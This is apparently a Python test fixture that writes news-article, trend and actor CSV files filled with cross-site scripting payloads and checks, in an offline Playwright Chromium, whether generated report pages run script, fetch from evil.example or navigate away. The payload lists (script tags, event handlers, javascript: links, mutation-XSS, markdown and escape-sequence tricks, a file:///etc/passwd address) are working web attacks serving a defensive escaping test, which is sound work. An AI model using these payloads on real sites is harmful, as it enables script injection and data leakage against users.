"""Text that attacks a page, and a browser that watches what a page does.

``alert(N)`` shows that script ran; a request to ``evil.example`` shows that the network was asked.
"""

from __future__ import annotations

import contextlib
import csv
import datetime
import json
import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

SCRIPTS = [
    "<script>alert(N)</script>",
    "<ScRiPt >alert(N)</sCrIpT >",
    "<script/x>alert(N)</script>",
    "<scr<script>ipt>alert(N)</scr</script>ipt><script>alert(N)</script>",
    "<script type=module>alert(N)</script>",
    "<script src=http://evil.example/N.js></script>",
    "<script src='data:text/javascript,alert(N)'></script>",
    "</title><script>alert(N)</script>",
    "</style><script>alert(N)</script>",
    "</textarea></pre></code><script>alert(N)</script>",
    "</script><script>alert(N)</script>",
    "--><script>alert(N)</script>",
    "\"'><script>alert(N)</script>",
    "<svg><script>alert(N)</script></svg>",
    "<img src=x onerror=alert(N)>",
    '<img src=x onerror="&#97;lert(N)">',
    "<img/src=`x`/onerror=alert(N)>",
    "'><img src=x onerror=alert(N)>",
    "<img src=x:x onerror\n=alert(N)>",
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(N)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(N)>">',
    "<svg><style><![CDATA[</style><img src=x onerror=alert(N)>]]></svg>",
    "<template shadowrootmode=open></template><img src=x onerror=alert(N)>",
    "<svg onload=alert(N)>",
    "<svg><animate onbegin=alert(N) attributeName=x dur=1s></svg>",
    "<body onload=alert(N)>",
    "<body onpageshow=alert(N)>",
    "<details open ontoggle=alert(N)>x</details>",
    "<video><source onerror=alert(N)></video>",
    "<audio src=x onerror=alert(N)></audio>",
    "<input autofocus onfocus=alert(N)>",
    '" autofocus onfocus=alert(N) tabindex=1 x="',
    '" onload=alert(N) onerror=alert(N) x="',
    "<b onclick=alert(N)>b</b>",
    "<div onmouseover=alert(N)>hover</div>",
    "<style>@keyframes q{}</style><b style='animation:q 1ms' onanimationstart=alert(N)>x</b>",
    '<iframe src="javascript:parent.alert(N)"></iframe>',
    '<iframe srcdoc="<script>parent.alert(N)</script>"></iframe>',
    '<object data="javascript:parent.alert(N)"></object><embed src="javascript:alert(N)">',
    "<object data='data:text/html,<script>alert(N)</script>'></object>",
    "`<img src=x onerror=alert(N)>` <img src=x onerror=alert(N)>",
    "\x1b]8;;javascript:alert(N)\x1b\\x\x1b]8;;\x1b\\ \x1b[31m<img src=x onerror=alert(N)>\x1b[0m",
    "\u202e<img src=x onerror=alert(N)>\u202c\u2066",
    "{% raw %}<script>alert(N)</script>{% endraw %}{{ ''|safe }}",
    r"$$\unicode{<img src=x onerror=alert(N)>}$$",
    "<pre class=mermaid>graph TD; a[\"<img src=x onerror=alert(N)>\"]</pre>",
]  # fmt: skip
CLICKS = [
    '<a href="javascript:alert(N)">click</a>',
    '<a href=" java\tscript:alert(N)">click</a>',
    '<a href="&#106;avascript:alert(N)">click</a>',
    '<a href="vbscript:alert(N)">click</a>',
    '<a href="data:text/html,<script>alert(N)</script>">click</a>',
    '<a title=">" href="http://evil.example/N">click</a>',
    '<svg><a xlink:href="javascript:alert(N)"><text y=20>click</text></a></svg>',
    "<map name=m><area shape=default href='javascript:alert(N)'></map>",
    '<form action="javascript:alert(N)"><button>go</button></form>',
    '<form><button formaction="javascript:alert(N)">go</button></form>',
    "<a href='//evil.example/N'>click</a>",
    "[click](javascript:alert(N))",
    "<javascript:alert(N)>",
    "[click](http://evil.example/N)",
    "![x](x\"onerror=\"alert(N))",
]  # fmt: skip
REQUESTS = [
    "<img src=http://evil.example/N>",
    "<img srcset='http://evil.example/N 2x'>",
    "![pixel](http://evil.example/N)",
    "<link rel=stylesheet href=http://evil.example/N>",
    "<link rel=prefetch href=http://evil.example/N>",
    "<link rel=preconnect href=http://evil.example>",
    "<style>@import 'http://evil.example/N'</style>",
    "<b style='background:url(http://evil.example/N)'>x</b>",
    "<iframe src=http://evil.example/N></iframe>",
    "<base href=http://evil.example/N/><img src=a>",
    "<video poster=http://evil.example/N autoplay src=http://evil.example/N></video>",
    "<svg><image href=http://evil.example/N /><use href=http://evil.example/N#a /></svg>",
    '<meta http-equiv=refresh content="0;url=http://evil.example/N">',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(N)</script>">',
]
INERT = [
    "&lt;script&gt;alert(N)&lt;/script&gt;",
    "&#60;script&#62;alert(N)&#60;/script&#62;",
    r"\u003cscript\u003ealert(N)\u003c/script\u003e",
    "%3Cscript%3Ealert(N)%3C/script%3E",
    "{{constructor.constructor('alert(N)')()}}",
    "＜script＞alert(N)＜/script＞",
    r"$\href{javascript:alert(N)}{x}$",
    "${alert(N)} #{alert(N)} <%= alert(N) %>",
    '=HYPERLINK("http://evil.example/N","click")',
]
ADDRESSES = [
    "javascript:alert(N)",
    "JaVaScRiPt:alert(N)",
    "data:text/html,<script>alert(N)</script>",
    "vbscript:msgbox(N)",
    'https://evil.example/N" onmouseover="alert(N)',
    "https://evil.example/N'><script>alert(N)</script>",
    "//evil.example/N",
    "file:///etc/passwd#N",
]


def numbered(*kinds: list[str]) -> list[str]:
    """Give every payload a number of its own, so that what ran can be named."""
    flat = [payload for kind in kinds for payload in kind]
    return [payload.replace("N)", f"{n})").replace("/N", f"/{n}") for n, payload in enumerate(flat)]


PAYLOADS = numbered(SCRIPTS, CLICKS, REQUESTS, INERT)


@dataclass
class Seen:
    """What a page did: script run, addresses asked for, places gone to, errors logged."""

    executed: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)
    navigations: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def done(self) -> list[str]:
        """List what a payload achieved; an error that the policy logged is none."""
        return [*self.executed, *self.requests, *self.navigations]

    def nothing(self) -> bool:
        return not self.done() and not self.errors


@contextlib.contextmanager
def browser() -> Iterator[Any]:
    """Start Debian's Chromium."""
    from playwright.sync_api import sync_playwright

    found = shutil.which("chromium") or shutil.which("chromium-browser")
    with sync_playwright() as started:
        running = started.chromium.launch(executable_path=found)
        try:
            yield running
        finally:
            running.close()


class Watcher:
    """One tab without a network, that notes what every page opened in it does."""

    def __init__(self, browser: Any, **options: Any) -> None:
        self.context = browser.new_context(**options)
        self.tab = self.context.new_page()
        self.seen, self.own = Seen(), ""
        self.context.route("**", self._route)
        # In every frame; a real dialog would hold up the page.
        self.context.expose_binding("alert", self._executed)
        self.context.on("page", self._opened)
        self._watch(self.tab)

    def _watch(self, tab: Any) -> None:
        tab.on("console", self._console)
        tab.on("pageerror", lambda error: self.seen.errors.append(str(error)))
        tab.on("framenavigated", self._navigated)

    def _opened(self, tab: Any) -> None:
        self.seen.navigations.append(f"a new tab: {tab.url}")
        self._watch(tab)

    def _route(self, route: Any) -> None:
        if route.request.url.split("#")[0] == self.own:
            return route.continue_()
        self.seen.requests.append(route.request.url)
        return route.fulfill(status=204)  # no answer: a navigation stays where it is

    def _executed(self, source: Any, number: Any = None) -> None:
        self.seen.executed.append(str(number))

    def _console(self, message: Any) -> None:
        if message.type == "error":
            self.seen.errors.append(message.text)

    def _navigated(self, frame: Any) -> None:
        if frame.parent_frame is None and frame.url.split("#")[0] not in (self.own, "about:blank"):
            self.seen.navigations.append(frame.url)

    def open(self, path: Path) -> Any:
        """Open a file as a reader does, by a double click."""
        self.seen, self.own = Seen(), path.resolve().as_uri()
        self.tab.goto(self.own, wait_until="load")
        return self.tab

    def provoke(self, path: Path, wait: int = 60) -> Seen:
        """Open a page, then point at, focus and click all that could lead somewhere."""
        self.open(path)
        self.tab.wait_for_timeout(wait)
        self.tab.evaluate(_PROVOKE)
        self.tab.wait_for_timeout(wait)
        return self.seen


_PROVOKE = """() => {
  // A sentence leads to its article when a reader clicks it: the address that the data name.
  const article = 'a[rel~="noreferrer"][href^="https://news.example/"]';
  const own = (e) => e.matches(`a[href^="#"], summary, ${article}`);
  for (const e of document.body.querySelectorAll("*")) {
    const hung = [...e.attributes].some((a) => a.name.startsWith("on"));
    if (hung || e.matches("a, area, button, input, summary")) {
      e.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
      if (e.focus) e.focus();
      if (own(e)) continue;
      if (e.click) e.click(); else e.dispatchEvent(new MouseEvent("click", {bubbles: true}));
    }
  }
}"""


def write_data(folder: Path, payloads: list[str] = PAYLOADS, topic: str = "") -> dict[str, str]:
    """Write articles, trends and actors in which every text is a payload; return parameters."""
    topic = topic or "\"'><script>alert(901)</script><img src=x onerror=alert(902)> {{7*7}} $a_b$"
    folder.mkdir(parents=True, exist_ok=True)
    _csv(folder / "articles.csv", _articles(payloads))
    _csv(folder / "trends.csv", _interest(topic, payloads[14 % len(payloads)]))
    _csv(folder / "actors.csv", _actors(payloads))
    paths = {
        f"{kind}_path": str(folder / f"{kind}.csv") for kind in ("articles", "trends", "actors")
    }
    return {"topic": topic, "query": "ukraine", "geo": "FR", **paths}


def _articles(payloads: list[str]) -> Iterator[list[str]]:
    yield ["id", "url", "title", "published", "source", "text", "author"]
    addresses = numbered(ADDRESSES)
    for n, payload in enumerate(payloads):
        url = addresses[n] if n < len(addresses) else f"https://news.example/{n}"
        outlet = payloads[n % 5 + 20 if len(payloads) > 25 else 0]
        day = f"2026-01-{n % 28 + 1:02d}T08:00:00Z"
        text = f"{payload} Ukraine. Le président Nom{n} a dit mardi 5 janvier 2026 : « {payload} »."
        yield [str(n), url, f"Guerre en Ukraine {payload}", day, outlet, text, payload]
        yield [f"b{n}", f"https://news.example/b{n}", "Sport", day, outlet, "Du sport.", payload]


def _interest(topic: str, other: str) -> Iterator[list[str]]:
    yield ["Catégorie : Toutes catégories"]
    yield []
    yield ["Jour", f"{topic}: (France)", f"{other}: (France)"]
    for n in range(90):
        day = datetime.date(2025, 11, 1) + datetime.timedelta(days=n)
        yield [day.isoformat(), str(100 if n == 70 else 20 + n % 7), str(30 + n % 5)]


def _actors(payloads: list[str]) -> Iterator[list[str]]:
    yield ["actor_id", "name", "kind", "aliases", "wikidata", "office", "of", "since", "until"]
    kinds = ("person", "organisation", "place")
    for n, payload in enumerate(payloads):
        alias = f"Nom{n}|{payload.replace('|', ' ')}"
        yield [f"a{n}", f"Nom{n} {payload}", kinds[n % 3], alias, "", payload, "Ukraine", "", ""]


def _csv(path: Path, rows: Iterator[list[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)


def schedule(path: Path, notebooks: list[str], **parameters: Any) -> Path:
    """Write a schedule of one report per notebook; each takes the parameters that it knows."""
    lines = [
        f"{name} = {json.dumps(text, ensure_ascii=False)}" for name, text in parameters.items()
    ]
    table = ["[[report]]", f"notebook = {json.dumps(notebooks)}"]
    path.write_text("\n".join(["[defaults]", *lines, *table]), "utf-8")
    return path
